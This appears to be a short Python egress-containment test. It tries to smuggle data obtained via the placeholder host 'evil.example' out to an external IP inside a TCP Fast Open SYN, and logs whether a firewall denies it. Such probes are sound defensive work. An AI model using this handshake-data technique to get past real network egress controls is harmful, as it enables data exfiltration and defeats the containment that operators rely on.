# Data in the SYN reaches the same listener.
# log: verdict=deny reason=no_rule destination=93.184.216.35:80
# off: host
from egress import *

with socket.socket() as s:
    try:
        s.sendto(get("evil.example"), 0x20000000, ("93.184.216.35", 80))
        s.settimeout(3)
        verdict(drain(s))
    except OSError as e:
        contained(repr(e))
